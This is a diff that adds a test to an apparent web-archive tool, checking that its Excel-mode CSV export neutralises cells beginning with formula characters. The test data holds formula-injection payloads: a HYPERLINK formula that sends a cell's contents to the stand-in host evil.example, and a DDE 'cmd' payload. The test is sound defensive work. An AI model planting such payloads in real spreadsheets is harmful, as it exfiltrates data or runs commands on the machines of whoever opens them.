@@ -186,3 +186,50 @@ def test_warc_export_selects_by_query(archive_path: Path, tmp_path: Path) -> Non
     pages = [u for u in urls if "/Images/" not in u]  # and the files it names (issue 12)
     assert pages == ["http://127.0.0.1:8765/vn/tin-tuc/104/bai-viet-104.aspx"]
     assert '"query": "\\u0111i\\u1ec7n"' in info  # the selection is recorded
+
+
+def test_excel_csv_keeps_a_hostile_page_from_running_formulas(tmp_path: Path) -> None:
+    """A page whose title, source or caption begins with = + - @ (or a tab, a carriage return)
+    is a formula to a spreadsheet: `=HYPERLINK(...)` in an archivist's Excel. With --excel such
+    a cell begins with ' (Excel's "this is text" mark, not shown); plain CSV keeps the archived
+    text as it is, for scripts."""
+    import csv
+    import io
+
+    from archive import store
+    from archive.db import open_archive
+    from crawler.items import Article, Image
+
+    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
+    db_path = tmp_path / "a.db"
+    db = open_archive(db_path)
+    store.save_article(
+        db,
+        Article(
+            site_id=901,
+            url="http://h/901",
+            title=hostile,
+            lead="+cmd|' /C calc'!A0",
+            body=["@SUM(1+1)", "Đoạn thường."],
+            body_html="",
+            published_at=None,
+            category="-2+3",
+            source="\t=1+1",
+            images=[Image("http://h/901/a.jpg", "=1+2")],
+            parser="t",
+        ),
+        page_id=None,
+        fetched_at="2026-01-01T00:00:00+00:00",
+    )
+    db.close()
+    plain, excel = tmp_path / "plain.csv", tmp_path / "excel.csv"
+    assert run("export", "--format", "csv", "-o", str(plain), "--db", str(db_path)).exit_code == 0
+    result = run("export", "--format", "csv", "--excel", "-o", str(excel), "--db", str(db_path))
+    assert result.exit_code == 0, result.output
+    (plain_row,) = list(csv.DictReader(io.StringIO(plain.read_text("utf-8"))))
+    (excel_row,) = list(csv.DictReader(io.StringIO(excel.read_text("utf-8-sig"))))
+    assert plain_row["title"] == hostile  # scripts get the archived text
+    assert excel_row["title"] == "'" + hostile
+    for column, cell in excel_row.items():
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    assert excel_row["site_id"] == "901" and excel_row["url"] == "http://h/901"  # untouched
